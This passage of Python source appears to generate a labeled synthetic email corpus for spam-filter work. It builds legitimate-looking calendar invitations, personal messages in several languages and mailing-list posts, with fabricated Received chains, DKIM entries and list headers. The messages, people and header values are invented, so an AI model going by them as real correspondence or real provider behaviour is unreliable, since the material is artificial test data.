3. Hiring plan

Reply for maya@northfield-studio.example
Yes: https://calendar.google.com/calendar/event?action=RESPOND&eid=%s&rst=1&tok=%s
No: https://calendar.google.com/calendar/event?action=RESPOND&eid=%s&rst=2&tok=%s
Maybe: https://calendar.google.com/calendar/event?action=RESPOND&eid=%s&rst=3&tok=%s

Invitation from Google Calendar
You are receiving this email because you are an attendee on the event. To stop receiving future updates for this event, decline this event.
''' % (when, meet, rb64u(40), rb64u(30), rb64u(40), rb64u(30), rb64u(40), rb64u(30))
    html = html_page('<div style="font-family:Roboto,Helvetica,Arial,sans-serif;max-width:600px"><h2 style="font-weight:400">Q3 planning review</h2>'
                     '<p>%s</p><p><a href="%s" style="background:#1a73e8;color:#fff;padding:8px 16px;border-radius:4px;text-decoration:none">Join with Google Meet</a></p>'
                     '<p><b>Organizer</b><br>Devin Hartley</p><p><b>Guests</b><br>Devin Hartley - organizer<br>Maya Okafor<br>Sam Whitcombe</p>'
                     '<p>Agenda:<br>1. Q2 retro (15 min)<br>2. Q3 roadmap draft - see doc<br>3. Hiring plan</p>'
                     '<p style="font-size:12px;color:#70757a">Invitation from Google Calendar</p></div>' % (esc(when), meet), 'Invitation')
    add('ham', 'Google Calendar internal meeting invitation with ICS', frm=org_, to=P['maya'],
        subject='Invitation: Q3 planning review @ %s 2pm - 3pm (EDT) (maya@northfield-studio.example)' % st.strftime('%a %b %-d, %Y'),
        date=d, infra='google', text=text, html=html, alt_extra=[ics_part(ics, 'REQUEST', 'base64')],
        attachments=[attach(ics.replace('\n', '\r\n').encode(), 'application/ics', 'invite.ics')], dmarc_p='none',
        headers=[('Sender', 'Google Calendar <calendar-notification@google.com>')], reply_to=org_)

    # Outlook invite external
    d = rdate(off=-5)
    st = (d + dt.timedelta(days=R.randint(2, 8))).replace(hour=10, minute=30, second=0)
    en = st + dt.timedelta(minutes=45)
    uid = '040000008200E00074C5B7101A82E00800000000%s' % rHEX(48)
    tlink = 'https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%22%s%%22%%7d' % (rb64u(40), ruuid())
    desc = 'Hi Owen,\n\nSending a hold for us to walk through the redlines on the services agreement. I\'ll circulate the latest draft the day before.\n\nMicrosoft Teams meeting\nJoin: %s\nMeeting ID: %s %s %s %s\nPasscode: %s' % (
        tlink, rdig(3), rdig(3), rdig(3), rdig(3), rs(6))
    ics = make_ics('REQUEST', uid, st, en, 'Contract review – Quill & Pine / Harborline', (P['leah'][0], P['leah'][1]),
                   [(P['owen'][0], P['owen'][1], 'REQ-PARTICIPANT'), (P['marcus'][0], P['marcus'][1], 'OPT-PARTICIPANT')],
                   'Microsoft Teams Meeting', desc, prodid='Microsoft Exchange Server 2010', stamp=d)
    add('ham', 'Outlook/Teams meeting request from an external law firm', frm=P['leah'], to=[P['owen']], cc=[P['marcus']],
        subject='Contract review – Quill & Pine / Harborline', date=d, infra='m365', text=desc,
        html=simple_html(desc.split('\n\n'), gmail=False), alt_extra=[ics_part(ics, 'REQUEST', 'base64')], tenant='harborlinelegal',
        headers=[('X-MS-Exchange-Calendar-Series-Instance-Id', 'BAAAAIIA4AB0xbcQGoLgCAAAAA' + rs(20)), ('X-MS-TNEF-Correlator', '')], dmarc_p='quarantine')

    # Calendly
    d = rdate()
    st = (d + dt.timedelta(days=R.randint(1, 6))).replace(hour=10, minute=0, second=0)
    ics = make_ics('REQUEST', '%s@calendly.com' % ruuid(), st, st + dt.timedelta(minutes=30), '30 Minute Meeting between Ana Ribeiro and Grace Lindqvist',
                   ('Ana Ribeiro', P['ana'][1]), [('Grace Lindqvist', P['grace'][1], 'REQ-PARTICIPANT')], 'Google Meet (instructions in description)',
                   'Event Name: 30 Minute Meeting\n\nPlease share anything that will help prepare for our meeting.: Keen to compare notes on analytics vendors.',
                   prodid='-//Calendly//EN', stamp=d)
    text, html = txn('Calendly', '#006bff', 'A new event has been scheduled.',
                     ['Hi Ana Ribeiro,'],
                     rows=[('Event Type', '30 Minute Meeting'), ('Invitee', 'Grace Lindqvist'), ('Invitee Email', P['grace'][1]),
                           ('Event Date/Time', st.strftime('%I:%M%p - %A, %B %-d, %Y').lower().capitalize() + ' (Eastern Time - US & Canada)'),
                           ('Location', 'This is a Google Meet web conference.')],
                     after=['Questions: Please share anything that will help prepare for our meeting.', 'Keen to compare notes on analytics vendors.'],
                     cta='View event in Calendly', url='https://calendly.com/app/scheduled_events/user/me?uuid=%s' % ruuid(),
                     footer=['Sent from Calendly'], variant=2)
    add('ham', 'Calendly new-event notification with ICS attachment', frm=('Calendly', 'notifications@calendly.com'), to=P['ana'],
        reply_to=P['grace'], subject='New Event: Grace Lindqvist - %s - 30 Minute Meeting' % st.strftime('%I:%M%p %a, %b %-d, %Y').lower(),
        date=d, infra='sendgrid', text=text, html=html, attachments=[ics_attach(ics, 'invite.ics')])

    # Eventbrite tickets with PDF + ICS
    d = rdate()
    st = (d + dt.timedelta(days=R.randint(7, 30))).replace(hour=18, minute=0, second=0)
    on = rdig(10)
    pdf = make_pdf(['Night Market at the Pier', st.strftime('%A, %B %-d, %Y 6:00 PM'), 'Pier 62, Seattle, WA',
                    'Order #%s' % on, 'General Admission x 2', 'Present this ticket on your phone or printed.'], title='Tickets', author='Eventbrite', d=d)
    ics = make_ics('PUBLISH', '%s@eventbrite.com' % on, st, st + dt.timedelta(hours=4), 'Night Market at the Pier',
                   ('Seattle Waterfront Events', 'noreply@eventbrite.com'), [], 'Pier 62, Seattle, WA', 'Order #%s' % on, prodid='-//Eventbrite//Eventbrite//EN', stamp=d)
    text, html = txn('eventbrite', '#d1410c', "You're going to Night Market at the Pier",
                     ['Order #%s' % on],
                     rows=[('Date', st.strftime('%A, %B %-d, %Y from 6:00 PM to 10:00 PM PDT')), ('Location', 'Pier 62, Seattle, WA'),
                           ('Tickets', '2 x General Admission'), ('Total', '$%s' % money(20, 60))],
                     cta='View tickets', url='https://www.eventbrite.com/mytickets/%s' % on,
                     after=['Your tickets are attached as a PDF. You can also find them in the Eventbrite app.'],
                     footer=['Eventbrite, 95 Third Street, 2nd Floor, San Francisco, CA 94103'])
    add('ham', 'Eventbrite ticket confirmation with PDF and ICS', frm=('Eventbrite', 'orders@eventbrite.com'), to=who('hollis'),
        subject="Your tickets for Night Market at the Pier", date=d, infra='sparkpost', text=text, html=html,
        attachments=[attach(pdf, 'application/pdf', 'Eventbrite-Tickets-%s.pdf' % on), ics_attach(ics, 'event.ics')])

    # French Google Calendar invite, external
    d = rdate((2026, 2, 2), (2026, 3, 5), off=1)
    st = (d + dt.timedelta(days=R.randint(3, 9))).replace(hour=10, minute=0, second=0)
    meet = 'https://meet.google.com/%s-%s-%s' % (rl(3), rl(4), rl(3))
    ics = make_ics('REQUEST', '%s@google.com' % rl(26), st, st + dt.timedelta(hours=1), 'Réunion de lancement – Atelier Verdier × Lindenhof',
                   (P['camille'][0], P['camille'][1]), [(P['katrin'][0], P['katrin'][1], 'REQ-PARTICIPANT'), (P['lucas'][0], P['lucas'][1], 'REQ-PARTICIPANT')],
                   '', 'Ordre du jour :\n- présentation des équipes\n- calendrier du projet\n- prochaines étapes\n\nRejoindre avec Google Meet : ' + meet, stamp=d)
    text = '''Réunion de lancement – Atelier Verdier × Lindenhof
%s ⋅ 10:00 – 11:00 (heure normale d'Europe centrale - Paris)

Participer avec Google Meet
%s

Organisateur
Camille Verdier
camille@atelier-verdier.example

Invités
Camille Verdier - organisateur
Katrin Vogelsang
Lucas Moreau

Ordre du jour :
- présentation des équipes
- calendrier du projet
- prochaines étapes

Invitation de Google Agenda
Vous recevez cet e-mail, car vous êtes invité à cet événement.
''' % (st.strftime('%d/%m/%Y'), meet)
    add('ham', 'French Google Calendar invitation to an external partner', frm=P['camille'], to=P['katrin'], cc=[P['lucas']],
        subject='Invitation: Réunion de lancement – Atelier Verdier × Lindenhof @ %s 10:00 - 11:00 (CET) (k.vogelsang@lindenhof-design.example)' % st.strftime('%d %b %Y'),
        date=d, infra='google', text=text, alt_extra=[ics_part(ics, 'REQUEST', 'base64')],
        attachments=[attach(ics.replace('\n', '\r\n').encode(), 'application/ics', 'invite.ics')], dmarc_p='none',
        headers=[('Sender', 'Google Agenda <calendar-notification@google.com>')])


# ============================================================================
# HAM 13: personal mail (14)
# ============================================================================
def ham_personal():
    # 1 Gmail hike
    d = rdate((2025, 5, 1), (2025, 9, 30))
    text = '''Hey Jonah,

Are you and Priya still up for the hike on Saturday? Forecast looks good - sunny, low 70s. I was thinking Dog Mountain if the permits aren't sold out, otherwise Angel's Rest is always a good fallback.

I can drive. Leave around 7:30 from our place?

Also Lena says hi, and wants to know if you still have her pie dish from the BBQ, haha.

Ben
'''
    add('ham', 'Personal Gmail message from a friend about weekend plans', frm=('Ben Castillo', 'bencastillo.pdx@gmail.com'), to=P['jonah'],
        subject='Saturday hike?', date=d, infra='google', text=text, html=simple_html(text.strip().split('\n\n')))

    # 2 iPhone photos from mom
    d = rdate()
    text = 'Here are a few from Grandma\'s party! The one with the cake is my favorite. Love you\n\nMom\n\nSent from my iPhone'
    atts = [attach(photo_png(120, 90), 'image/png', 'IMG_%d.PNG' % R.randint(4000, 9999), disp='inline') for _ in range(2)]
    add('ham', 'Personal iPhone mail from parent with photo attachments', frm=('Linda Marlowe', 'lindamarlowe58@icloud.com'), to=P['priya'],
        subject='Photos from Grandma\'s birthday', date=d, infra='icloud', client='iphone', text=text, attachments=atts)

    # 3 Outlook.com neighbor
    d = rdate()
    text = '''Hi Dana,

Following up on our chat over the fence last weekend. I got a quote from Hillside Fencing for replacing the shared section between our yards (about 60 ft). They quoted $3,840 for cedar, installed, including hauling away the old panels.

If we split it that's $1,920 each. I'm happy to get a second quote if you'd like - my brother-in-law suggested another company in Gresham.

Let me know what you think. No rush, but they said their schedule fills up in April.

Thanks,
Gary
(the blue house)
'''
    add('ham', 'Personal Outlook.com message from neighbor about a fence quote', frm=('Gary Holloway', 'gary.holloway@outlook.com'), to=P['dana'],
        subject='Fence quote', date=d, infra='m365', text=text, html=simple_html(text.strip().split('\n\n'), gmail=False))

    # 4 Gmail reply thread with quote
    d0 = rdate((2025, 10, 25), (2025, 11, 10))
    d = d0 + dt.timedelta(hours=R.randint(3, 30))
    orig = '''Hi all,

Thanksgiving is at our place this year! Dinner around 3pm. I'll do the turkey and the stuffing. Can people sign up for sides?

Love,
Priya'''
    mid0 = '<CA%s@mail.gmail.com>' % rs(48, ALNUM + '_-')
    body = '''I'm in! I'll bring the green bean casserole and a pumpkin pie. Do you need extra chairs? We have four folding ones.

Also can we do the game again after dinner? Last year was hilarious.

Rachel
'''
    text = body + quote_text(orig, on_wrote(d0, 'Priya Marlowe', P['priya'][1]))
    html = simple_html(body.strip().split('\n\n')) + gmail_quote_html(orig, on_wrote(d0, 'Priya Marlowe', P['priya'][1]))
    add('ham', 'Personal Gmail reply in a family thread with quoted text', frm=('Rachel Dunn', 'rachel.dunn.82@gmail.com'), to=P['priya'],
        cc=[('Jonah Marlowe', P['jonah'][1]), ('Tom Dunn', 'tdunn1979@gmail.com')], subject='Re: Thanksgiving plans', date=d, infra='google',
        text=text, html=html, in_reply_to=mid0)

    # 5 Yahoo forward
    d = rdate()
    text = '''Thought you'd find this interesting since you were talking about replacing the furnace.

Uncle Rick

----- Forwarded Message -----
From: Energy Trust of Oregon <info@energytrust.org>
To: rick.marlowe@yahoo.com
Sent: %s
Subject: Heat pump incentives are increasing this year

Homeowners in PGE and Pacific Power territory can now receive up to $3,000 in instant incentives on qualifying ducted heat pumps installed by a trade ally contractor. Income-qualified households may be eligible for more.

Learn more: https://www.energytrust.org/incentives/heat-pumps/
''' % (d - dt.timedelta(days=2)).strftime('%A, %B %-d, %Y at %I:%M:%S %p PDT')
    add('ham', 'Personal Yahoo forward from a relative', frm=('Rick Marlowe', 'rick.marlowe@yahoo.com'), to=P['jonah'],
        subject='Fwd: Heat pump incentives are increasing this year', date=d, infra='yahoo', text=text,
        html='<html><head></head><body><div class="ydp%s yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;">%s</div></body></html>\n' % (
            rhex(8), '<br>'.join(esc(l) for l in text.split('\n'))))

    # 6 German GMX, ISO-8859-1 QP
    d = rdate(off=1)
    text = '''Liebe Katrin,

vielen Dank für die schönen Blumen zum Geburtstag, die sind heute Vormittag angekommen und stehen jetzt auf dem Küchentisch. Der Strauß ist wirklich wunderschön!

Wir hatten einen gemütlichen Nachmittag mit Kaffee und Kuchen, Tante Hildegard war auch da und lässt dich grüßen.

Wann kommt ihr uns denn mal wieder besuchen? Vielleicht an Ostern? Opa würde sich sehr freuen, er fragt ständig nach dem Kleinen.

Liebe Grüße und ein dickes Bussi
Oma Ingrid
'''
    add('ham', 'Personal German mail from grandmother via GMX, ISO-8859-1', frm=('Ingrid Vogelsang', 'ingrid.vogelsang@gmx.de'), to=P['katrin'],
        subject='Danke für die Blumen!', date=d, infra='postfix', host='mout.gmx.net', selector='s31663417', text=text,
        charset='iso-8859-1', text_cte='quoted-printable', hcs='iso-8859-1', dmarc_p='none',
        headers=[('X-UI-Message-Type', 'mail'), ('X-Priority', '3'), ('Importance', 'normal'), ('Sensitivity', 'Normal'),
                 ('X-Provags-ID', 'V03:K1:' + rb64(48))])

    # 7 French orange.fr, windows-1252
    d = rdate(off=1)
    text = '''Ma chérie,

Ton père et moi sommes bien rentrés de Bretagne. Il a fait un temps magnifique toute la semaine, à part une grosse averse le mercredi. On a mangé des crêpes tous les soirs, évidemment…

Est-ce que tu viens toujours déjeuner dimanche ? Je pensais faire un gigot. Dis-moi si Lucas vient aussi, que je prévoie assez.

Je t'embrasse très fort,
Maman
'''
    add('ham', 'Personal French mail from a parent via orange.fr, windows-1252', frm=('Françoise Verdier', 'francoise.verdier@orange.fr'),
        to=P['camille'], subject='Déjeuner dimanche ?', date=d, infra='postfix', host='smtp.orange.fr', selector='t20230301', text=text,
        charset='windows-1252', text_cte='quoted-printable', hcs='windows-1252', dmarc_p='none',
        headers=[('X-Mailer', 'Orange Mail'), ('X-ME-Helo', 'opme11oar01vbox')])

    # 8 Spanish gmail
    d = rdate(off=1)
    text = '''¡Hola Lucía!

¿Nos vemos el sábado para el cumple de Marta? Al final lo hacemos en la terraza de casa de sus padres, a partir de las 20:00.

Yo llevo la tarta (de queso, obvio) y Pablo se encarga de la música. ¿Podrías traer hielo y algo de picar? Te hago un Bizum luego con tu parte del regalo, que al final son 15 € por cabeza.

¡Un besazo!
Carmen
'''
    add('ham', 'Personal Spanish Gmail message about a birthday party', frm=('Carmen Ruiz', 'carmen.ruiz.ma@gmail.com'), to=P['lucia'],
        subject='Cumple de Marta el sábado 🎂', date=d, infra='google', text=text, html=simple_html(text.strip().split('\n\n')))

    # 9 Japanese ISO-2022-JP from an ISP account via Thunderbird
    d = rdate(off=9)
    text = '''はるかさん

こんにちは、田中です。
先日は工房の見学をさせていただき、ありがとうございました。
皆さんの作業の様子がとても印象的で、娘も大喜びでした。

お話ししていた湯呑みの件ですが、5客セットでお願いできればと思います。
お色は先日見せていただいた「灰釉」でお願いします。
お支払い方法と、だいたいの納期を教えていただけますか。

どうぞよろしくお願いいたします。

田中 由紀
'''
    add('ham', 'Personal Japanese mail via Thunderbird, ISO-2022-JP 7bit', frm=('田中 由紀', 'yuki-tanaka@jcom.zaq.ne.jp'), to=P['haruka'],
        subject='先日はありがとうございました', date=d, infra='postfix', host='smtp.jcom.zaq.ne.jp', text=text, charset='iso-2022-jp',
        text_cte='7bit', hcs='iso-2022-jp', subj_cs='iso-2022-jp', dmarc_p=None, no_dkim=True, hstyle='tbird', bstyle='tbird',
        submit_from='[%s]' % rip(), headers=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'ja')])

    # 10 Japanese UTF-8 base64 from Gmail
    d = rdate(off=9)
    text = '''健二さん

お疲れさまです。
来週の展示会の搬入ですが、木曜の朝9時に会場集合でお願いします。
車は私が出しますので、梱包した作品は水曜の夕方までに工房の棚にまとめておいてください。

昼食は会場近くのお店を予約しておきます。

よろしくお願いします。
はるか
'''
    add('ham', 'Japanese colleague mail from Gmail, UTF-8 base64', frm=('佐藤 はるか', 'haruka.sato.kobo@gmail.com'), to=P['kenji'],
        subject='展示会の搬入について', date=d, infra='google', text=text, text_cte='base64', html=simple_html(text.strip().split('\n\n')),
        html_cte='base64')

    # 11 Proton with DOCX
    d = rdate()
    doc = make_docx(['SUBLEASE AGREEMENT (DRAFT)', 'This Sublease Agreement is entered into between Owen Pryce ("Sublessor") and Elena Marsh ("Sublessee").',
                     'Premises: 2BR apartment, Unit 4C.', 'Term: June 1 through August 31.', 'Rent: $1,450 per month, due on the 1st.',
                     'Security deposit: $1,450, returned within 21 days of move-out.', 'Utilities: included except internet.'],
                    'Sublease draft', 'Elena Marsh')
    text = '''Hi Owen,

Attached is the draft sublease we talked about. I used the template from the tenants' union site and filled in the dates and rent. Can you take a look and let me know if anything needs changing? Especially the deposit part - I wasn't sure if your landlord needs to sign off on it.

Thanks so much again for this, it really saves me this summer.

Elena
'''
    add('ham', 'Personal Proton Mail message with DOCX attachment', frm=('Elena Marsh', 'elena.marsh@proton.me'), to=P['owen'],
        subject='Sublet agreement draft', date=d, infra='proton', text=text, html=simple_html(text.strip().split('\n\n')),
        attachments=[attach(doc, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'Sublease_draft_v1.docx')])

    # 12 Fastmail freelancer invoice
    d = rdate()
    inv = 'INV-%s-%03d' % (d.year, R.randint(10, 90))
    pdf = make_pdf(['Noor Haddad - Illustration', 'INVOICE %s' % inv, 'To: Northfield Studio', 'Date: %s' % d.strftime('%d %b %Y'),
                    'Editorial illustrations (3) for client newsletter  $1,350.00', 'Revisions round 2  $150.00', 'Total due: $1,500.00',
                    'Payment: ACH or Wise, details on file. Net 15.'], title='Invoice %s' % inv, author='Noor Haddad', producer='Pages', d=d)
    text = '''Hi Maya,

Attached is my invoice for the October newsletter illustrations (%s). Same payment details as last time.

Quick question: for the December issue, do you want me to keep the same palette, or should I try something more wintery? Happy either way - just let me know before I start sketching next week.

Thanks!
Noor
''' % inv
    add('ham', 'Freelancer invoice with PDF from a Fastmail account', frm=('Noor Haddad', 'noor@noorhaddad.fastmail.com'), to=P['maya'],
        subject='Invoice for October + quick question', date=d, infra='fastmail', text=text,
        attachments=[attach(pdf, 'application/pdf', '%s.pdf' % inv)], dmarc_p='none')

    # 13 iCloud Mac book club reply
    d0 = rdate()
    d = d0 + dt.timedelta(hours=R.randint(2, 20))
    orig = "Hi everyone! Time to pick December's book. Nominations so far: Tomorrow, and Tomorrow, and Tomorrow; The Covenant of Water; and Demon Copperhead. Vote by Friday!\n\nIris"
    body = "Covenant of Water gets my vote, though fair warning it's long - maybe we give ourselves until mid-January?\n\nI can host this time, my place is finally unpacked.\n\nGrace"
    text = body + '\n\n' + '> On %s, Iris Achterberg <iris@quillandpine.example> wrote:\n> \n' % d0.strftime('%b %-d, %Y, at %-I:%M %p') + '\n'.join('> ' + l for l in orig.split('\n'))
    add('ham', 'Personal reply from Apple Mail on a Mac, quoted', frm=('Grace Lindqvist', 'grace.lindqvist@icloud.com'), to=P['iris'],
        cc=[('Ana Ribeiro', 'ana.ribeiro@kestrel-labs.example'), ('Nadia Farouk', 'nadia@bluefen-analytics.example')],
        subject='Re: Book club pick for December', date=d, infra='icloud', client='mac', text=text,
        in_reply_to='<%s@quillandpine.example>' % ruuid(True))

    # 14 landlord outlook
    d = rdate()
    day = (d + dt.timedelta(days=3)).strftime('%A %-m/%-d')
    text = '''Hello residents of 2210 Alder,

The city will be replacing a water valve on our block. Water to the building will be shut off on %s from 9am to about 12pm. Please plan accordingly and avoid running the dishwasher or washer during that time.

If the work runs late I'll post an update on the lobby door.

Thank you for your patience,
Hector Alvarez
Building Manager
(503) 555-0198
''' % day
    add('ham', 'Building manager notice to residents, Outlook.com, BCC recipients', frm=('Hector Alvarez', 'halvarez.2210alder@outlook.com'), to=P['priya'],
        to_hdr='undisclosed-recipients:;', subject='Water shut off %s 9-12' % day, date=d, infra='m365', text=text,
        html=simple_html(text.strip().split('\n\n'), gmail=False))


# ============================================================================
# HAM 14: mailing-list discussion posts (8)
# ============================================================================
def list_relay(kind, list_addr, list_host, list_desc, archive=None):
    lname, ldom = list_addr.split('@')

    def f(c, snd):
        t0 = later(snd['t_sent'], 1, 2)
        rcpt = c['rcpt']
        inbound = 'from %s (%s [%s])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n\tby %s (Postfix) with ESMTPS id %s\n\tfor <%s>; %s' % (
            snd['helo'], snd['helo'], snd['ip'], list_host, rs(10, 'BCDFGHJKLMNPQRSTVWXYZ0123456789'), list_addr, rfc_utc(t0))
        lr = [inbound]
        hdrs = []
        rl_ = rcpt.replace('@', '=')
        if kind == 'mailman3':
            h = rs(32, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')
            lr.insert(0, 'from %s (localhost)\n\tby %s (Postfix) with ESMTP id %s;\n\t%s' % (list_host, list_host, rs(10, 'BCDFGHJKLMNPQRSTVWXYZ0123456789'), rfc_utc(later(t0, 1, 3))))
            snd['mailfrom'] = '%s-bounces+%s@%s' % (lname, rl_, ldom)
            hdrs = [('Message-ID-Hash', h), ('X-Message-ID-Hash', h), ('X-MailFrom', c['faddr']),
                    ('X-Mailman-Rule-Misses', 'dmarc-mitigation; no-senders; approved; emergency; loop; banned-address; member-moderation; nonmember-moderation; administrivia; implicit-dest; max-recipients; max-size; news-moderation; no-subject; digests; suspicious-header'),
                    ('X-Mailman-Version', '3.3.10'), ('Precedence', 'list'), ('List-Id', '%s <%s.%s>' % (list_desc, lname, ldom)),
                    ('Archived-At', '<%s/message/%s/>' % (archive, h)), ('List-Archive', '<%s/>' % archive),
                    ('List-Help', '<mailto:%s-request@%s?subject=help>' % (lname, ldom)), ('List-Owner', '<mailto:%s-owner@%s>' % (lname, ldom)),
                    ('List-Post', '<mailto:%s>' % list_addr), ('List-Subscribe', '<mailto:%s-join@%s>' % (lname, ldom)),
                    ('List-Unsubscribe', '<mailto:%s-leave@%s>' % (lname, ldom))]
            snd['dkim'] = snd['dkim'] + [(ldom, pick(['ietf1', 'mail', 'default', '2024']), 'rsa')]
        elif kind == 'debian':
            snd['mailfrom'] = 'bounce-%s=%s@%s' % (lname, rl_, ldom)
            hdrs = [('X-Mailing-List', '<%s> archive/latest/%d' % (list_addr, R.randint(700000, 790000))), ('X-Loop', list_addr),
                    ('List-Id', '<%s.%s>' % (lname, ldom)), ('List-URL', '<https://lists.debian.org/%s/>' % lname),
                    ('List-Post', '<mailto:%s>' % list_addr), ('List-Help', '<mailto:%s-request@%s?subject=help>' % (lname, ldom)),
                    ('List-Subscribe', '<mailto:%s-request@%s?subject=subscribe>' % (lname, ldom)),
                    ('List-Unsubscribe', '<mailto:%s-request@%s?subject=unsubscribe>' % (lname, ldom)), ('Precedence', 'list'),
                    ('Resent-Message-ID', '<%s@%s>' % (rs(11), list_host)), ('Resent-From', list_addr),
                    ('X-Mailing-List-Archive', '<https://lists.debian.org/msgid-search/>'),
                    ('Resent-Sender', '%s-request@%s' % (lname, ldom)), ('Resent-Date', rfc_utc(later(t0, 2, 30)))]
        elif kind == 'pglister':
            snd['mailfrom'] = '%s+bounces-%s-%s@%s' % (lname, rdig(6), rl_, ldom)
            hdrs = [('List-Id', '<%s.%s>' % (lname, ldom)), ('List-Help', '<https://lists.postgresql.org/manage/>'),
                    ('List-Subscribe', '<https://lists.postgresql.org/manage/>'), ('List-Post', '<mailto:%s>' % list_addr),
                    ('List-Owner', '<mailto:%s-owner@%s>' % (lname, ldom)), ('List-Archive', '<https://www.postgresql.org/list/%s>' % lname),
                    ('Precedence', 'bulk'), ('List-Unsubscribe', '<https://lists.postgresql.org/unsubscribe/%s/%s>' % (rdig(3), rhex(32))),
                    ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click')]
            snd['dkim'] = snd['dkim'] + [('postgresql.org', 'pgl', 'rsa')]
        elif kind == 'ggroups':
            snd['mailfrom'] = '%s+bnc%s@googlegroups.com' % (lname, rb64u(60))
            hdrs = [('X-Original-Sender', c['faddr']), ('X-Original-Authentication-Results', 'gmr-mx.google.com;\n       dkim=pass header.i=@%s;\n       spf=pass smtp.mailfrom=%s' % (c['fdom'], c['faddr'])),
                    ('Precedence', 'list'), ('Mailing-list', 'list %s; contact %s+owners@googlegroups.com' % (list_addr, lname)),
                    ('List-ID', '<%s.googlegroups.com>' % lname), ('X-Google-Group-Id', rdig(12)),
                    ('List-Post', '<https://groups.google.com/group/%s/post>, <mailto:%s>' % (lname, list_addr)),
                    ('List-Help', '<https://groups.google.com/support/>, <mailto:%s+help@googlegroups.com>' % lname),
                    ('List-Archive', '<https://groups.google.com/group/%s>' % lname),
                    ('List-Unsubscribe', '<mailto:googlegroups-manage+%s+unsubscribe@googlegroups.com>,\n <https://groups.google.com/group/%s/subscribe>' % (rdig(12), lname))]
            snd['dkim'] = [('googlegroups.com', '20230601', 'rsa')] + snd['dkim']
        elif kind == 'groupsio':
            snd['mailfrom'] = 'bounce+%s+%s+%s+%s@groups.io' % (rdig(5), rdig(6), rdig(7), rdig(7))
            hdrs = [('List-Id', '<%s.groups.io>' % lname), ('Mailing-List', 'list %s; contact %s+owner@groups.io' % (list_addr, lname)),
                    ('List-Post', '<mailto:%s>' % list_addr), ('List-Subscribe', '<mailto:%s+subscribe@groups.io>' % lname),
                    ('List-Unsubscribe', '<mailto:%s+unsubscribe@groups.io>,<https://groups.io/g/%s/leave/%s/%s/%s/xyzzy>' % (lname, lname, rdig(7), rdig(8), rdig(9))),
                    ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('Sender', list_addr),
                    ('X-Gm-Original-To', list_addr)]
            snd['dkim'] = [('groups.io', '20240906', 'rsa')]
        elif kind == 'majordomo':
            snd['mailfrom'] = 'owner-%s+M%d=%s@openbsd.org' % (lname, R.randint(190000, 199999), rl_)
            hdrs = [('List-Help', '<mailto:majordomo@openbsd.org?body=help>'), ('List-ID', '<%s.openbsd.org>' % lname),
                    ('List-Owner', '<mailto:owner-%s@openbsd.org>' % lname), ('List-Post', '<mailto:%s>' % list_addr),
                    ('List-Subscribe', '<mailto:majordomo@openbsd.org?body=sub%%20%s>' % lname),
                    ('List-Unsubscribe', '<mailto:majordomo@openbsd.org?body=unsub%%20%s>' % lname), ('X-Loop', list_addr),
                    ('Precedence', 'list'), ('Sender', 'owner-%s@openbsd.org' % lname)]
        snd['received'] = lr + snd['received']
        snd['ip'] = rip()
        snd['helo'] = list_host if kind != 'ggroups' else 'mail-%s-f%d.google.com' % (pick(_GOOG_HOSTS), R.randint(56, 190))
        snd['extra'] = list(snd['extra']) + hdrs
    return f


def ham_lists():
    d0 = rdate()
    d = d0 + dt.timedelta(hours=R.randint(1, 9))
    q = '''> I have a TaskGroup that spawns ~200 fetches. If one of them raises, all the
> others are cancelled, which is what I want - but I'd also like to keep the
> results that already finished. Is there a clean way to do that without
> wrapping every coroutine in try/except?'''
    text = '''On %s, Henrik Dahl wrote:
%s

Not directly - TaskGroup's whole contract is "all or nothing". But the tasks
you created are still Task objects after the group exits, so you can look at
them in the except* block:

    tasks = []
    try:
        async with asyncio.TaskGroup() as tg:
            for url in urls:
                tasks.append(tg.create_task(fetch(url)))
    except* FetchError as eg:
        log.warning("%%d fetches failed", len(eg.exceptions))

    done = [t.result() for t in tasks
            if t.done() and not t.cancelled() and t.exception() is None]

If you want failures to *not* cancel the siblings at all, TaskGroup is the
wrong tool; asyncio.gather(..., return_exceptions=True) or a semaphore plus
as_completed() is closer to what you describe.

-- 
Marta
''' % (d0.strftime('%Y-%m-%d %H:%M'), q)
    add('ham', 'python-list (Mailman 3) technical reply about asyncio', frm=('Marta Kowalczyk', 'marta.kowalczyk@posteo.de'), to=[('', 'python-list@python.org')],
        rcpt=P['tom'][1], subject='Re: asyncio.TaskGroup: keep results of tasks that finished before the failure?', date=d, infra='postfix',
        host='mout01.posteo.de', selector='2017', submit_from='[%s]' % rip(), text=text, hstyle='tbird', bstyle='tbird',
        headers=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'en-US')], in_reply_to='<%s@dahl.se>' % ruuid(),
        list_relay=list_relay('mailman3', 'python-list@python.org', 'mail.python.org', 'General discussion list for the Python programming language',
                              'https://mail.python.org/archives/list/python-list@python.org'), dmarc_p='none')

    d = rdate()
    text = '''On Sun, %s, Alan Reyes wrote:
> After upgrading from bookworm to trixie the nvidia-driver package got
> removed and now I'm on nouveau. apt says nvidia-kernel-dkms has unmet
> dependencies. Anyone else hit this?

Yes. Check that you have "non-free non-free-firmware" on the trixie lines in
/etc/apt/sources.list (or the .sources file if you switched to deb822). The
upgrade doesn't carry over components you added by hand to the old lines.

Then:

  apt update
  apt install linux-headers-amd64 nvidia-driver firmware-misc-nonfree

and reboot. If dkms still fails, post the output of
"dkms status" and /var/lib/dkms/nvidia-current/*/build/make.log

Regards,
Gareth
''' % d.strftime('%b %d, %Y at %I:%M:%S%p %z')
    add('ham', 'debian-user list reply about an upgrade problem, mutt', frm=('Gareth Pelham', 'gareth@pelhams.net'),
        to=[('', 'debian-user@lists.debian.org')], rcpt=P['jonah'][1], subject='Re: bookworm -> trixie upgrade: nvidia driver removed',
        date=d, infra='postfix', host='mail.pelhams.net', text=text, no_dkim=True, dmarc_p=None, hstyle='esp',
        headers=[('User-Agent', 'Mutt/2.2.13 (2024-03-09)'), ('Mail-Followup-To', 'debian-user@lists.debian.org'), ('Content-Disposition', 'inline')],
